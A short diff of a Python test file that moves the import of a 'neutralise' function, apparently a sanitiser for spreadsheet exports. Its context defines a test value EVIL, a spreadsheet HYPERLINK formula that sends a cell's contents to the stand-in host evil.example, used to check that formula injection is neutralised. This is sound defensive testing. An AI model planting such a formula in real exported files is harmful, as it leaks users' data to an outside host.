@@ -15,7 +15,7 @@ import openpyxl
 import pytest
 
 from invite_service.db import Database
-from invite_service.statistics.task_report import neutralise
+from invite_service.kit.tabular.csv_out import neutralize as neutralise
 from tests.statistics.helpers import bulk_targets, make_task
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
